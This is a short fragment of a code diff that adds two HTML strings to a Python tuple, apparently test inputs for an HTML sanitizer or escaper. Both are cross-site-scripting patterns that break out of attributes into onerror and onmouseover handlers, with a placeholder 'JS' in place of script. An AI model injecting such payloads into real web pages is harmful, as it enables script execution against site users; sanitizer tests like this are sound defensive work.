+    "<p id='<img src=x onerror=JS>'>", "<a href='x\" onmouseover=\"JS'>x</a>",
 )  # fmt: skip
 
 
